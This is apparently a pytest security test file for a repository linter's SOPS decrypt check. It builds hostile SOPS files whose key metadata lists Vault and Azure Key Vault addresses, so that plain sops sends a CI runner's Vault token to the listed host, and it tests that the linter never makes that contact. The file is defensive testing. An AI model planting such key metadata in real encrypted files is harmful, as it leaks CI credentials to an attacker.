"""sops never contacts an address a SOPS file names, and never sees the runner's credentials."""

from __future__ import annotations

import json
import re
import shutil
import subprocess

import pytest

from obslint.cli import main
from obslint.tools import sandbox
from obslint.tools.sops_copy import NotCopyable, age_only
from tests.conftest import REFERENCE_STACK, ROOT, check, require_tool
from tests.security.fakes import recording_server

KEY = ROOT / "tests" / "keys" / "age-test-key.txt"
SECRET = REFERENCE_STACK / "infrastructure" / "monitoring" / "kube-prometheus-stack" / "grafana-admin.enc.yaml"
CANARY = "s.canary-vault-token-0b5e"


def _hostile_copy(tmp_path, url: str, tamper: bool = False):
    """The reference stack's Grafana Secret with Vault and Azure Key Vault keys at `url` listed
    before its age key (sops tries them first)."""
    text = SECRET.read_text()
    extra = (
        "    hc_vault:\n"
        f"        - vault_address: {url}\n"
        "          engine_path: sops\n"
        "          key_name: firstkey\n"
        '          created_at: "2026-11-23T16:26:28Z"\n'
        "          enc: vault:v1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n"
        "    azure_kv:\n"
        f"        - vault_url: {url}\n"
        "          name: sops-key\n"
        "          version: 0123456789abcdef\n"
        '          created_at: "2026-11-23T16:26:28Z"\n'
        "          enc: AAAAAAAA\n"
    )
    text = text.replace("sops:\n    age:\n", "sops:\n" + extra + "    age:\n")
    if tamper:  # a value in clear that the MAC covers, changed after encryption
        assert "type: Opaque\n" in text
        text = text.replace("type: Opaque\n", "type: kubernetes.io/basic-auth\n")
    root = tmp_path / "repo"
    (root / "apps").mkdir(parents=True)
    (root / "apps" / "grafana-admin.enc.yaml").write_text(text)
    return root


@pytest.fixture
def runner_credentials(monkeypatch, tmp_path):
    """What a CI runner may hold: a Vault token in the environment and in ~/.vault-token."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".vault-token").write_text(CANARY)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("VAULT_TOKEN", CANARY)
    monkeypatch.setenv("VAULT_ADDR", "http://127.0.0.1:9")


@pytest.mark.slow
def test_the_hostile_file_would_reach_the_address_with_plain_sops(tmp_path, runner_credentials):
    """The fixture is real: sops run as usual sends the runner's Vault token to the listed address."""
    sops = require_tool("sops")
    with recording_server() as (url, seen):
        root = _hostile_copy(tmp_path, url)
        subprocess.run(
            [sops, "--decrypt", str(root / "apps" / "grafana-admin.enc.yaml")],
            capture_output=True,
            env={"VAULT_TOKEN": CANARY, "HOME": str(tmp_path / "home"), "PATH": "/usr/bin:/bin"},
            timeout=60,
            check=False,
        )
    assert any(CANARY in s for s in seen), seen


@pytest.mark.parametrize("namespaces", [True, False], ids=["network-namespace", "age-only-copy-alone"])
def test_decrypt_check_contacts_no_listed_address(tmp_path, monkeypatch, runner_credentials, namespaces):
    require_tool("sops")
    if not namespaces:  # the copy without non-age keys must hold on its own, where unshare is not allowed
        monkeypatch.setattr(sandbox, "_unshare", lambda: ())
    with recording_server() as (url, seen):
        intact = check(_hostile_copy(tmp_path / "a", url), select=["SEC003"], sops_age_key_file=str(KEY))
        tampered = check(_hostile_copy(tmp_path / "b", url, tamper=True), select=["SEC003"], sops_age_key_file=str(KEY))
    assert seen == []
    assert intact.findings == [] and not intact.errors
    assert not any("skipped" in n for n in intact.notices), intact.notices
    (f,) = tampered.findings
    assert "MAC does not match" in f.message


def test_mac_mismatch_never_prints_the_computed_mac(tmp_path, capsys):
    """sops' message carries a hash of the plaintext ("MAC mismatch. File has X, computed Y")."""
    require_tool("sops")
    with recording_server() as (url, _seen):
        root = _hostile_copy(tmp_path, url, tamper=True)
        main(["check", str(root), "--select", "SEC003", "--sops-age-key-file", str(KEY)])
    out = capsys.readouterr()
    text = out.out + out.err
    assert "MAC does not match" in text
    assert "computed" not in text and not re.search(r"[0-9A-F]{32}", text)


def test_repository_configuration_cannot_name_a_key(tmp_path, capsys):
    require_tool("sops")
    root = _hostile_copy(tmp_path, "http://127.0.0.1:9", tamper=True)
    shutil.copy(KEY, root / "key.txt")
    (root / ".obslint.yaml").write_text("options:\n  sops-file-broken: {key-file: key.txt}\n")
    assert main(["check", str(root), "--select", "SEC003"]) == 2
    assert "key-file: unknown key" in capsys.readouterr().err


def test_age_only_copy_of_yaml_changes_only_the_non_age_entries():
    text = (
        "data: ENC[x]\n"
        "sops:\n"
        "    kms:\n"
        "        - arn: arn:aws:kms:eu-west-1:1:key/x\n"
        "          enc: AAA\n"
        "    hc_vault: []\n"
        "    age:\n"
        "        - recipient: age1abc\n"
        "    pgp: # trailing comment\n"
        "        - fp: ABC\n"
        "    mac: ENC[y]\n"
    )
    out = age_only(text, "yaml")
    assert out == (
        "data: ENC[x]\nsops:\n    kms: []\n    hc_vault: []\n    age:\n        - recipient: age1abc\n"
        "    pgp: []\n    mac: ENC[y]\n"
    )


def test_age_only_copy_of_json_and_dotenv():
    doc = {"a": "ENC[x]", "sops": {"kms": [{"arn": "k"}], "age": [{"recipient": "age1abc"}], "mac": "ENC[y]"}}
    assert json.loads(age_only(json.dumps(doc), "json"))["sops"] == {"age": [{"recipient": "age1abc"}], "mac": "ENC[y]"}
    dotenv = "A=ENC[x]\nsops_kms__list_0__map_arn=k\nsops_age__list_0__map_recipient=age1abc\nsops_mac=ENC[y]\n"
    assert age_only(dotenv, "dotenv") == "A=ENC[x]\nsops_age__list_0__map_recipient=age1abc\nsops_mac=ENC[y]\n"


@pytest.mark.parametrize(
    "text",
    [
        "sops:\n    key_groups:\n        - age: [{recipient: age1abc}]\n          hc_vault: [{vault_address: http://x}]\n",
        "sops: {hc_vault: [{vault_address: http://x}], age: [{recipient: age1abc}]}\n",
    ],
    ids=["key-groups", "flow-style"],
)
def test_age_only_copy_refuses_what_it_cannot_strip_exactly(text):
    with pytest.raises(NotCopyable):
        age_only(text, "yaml")
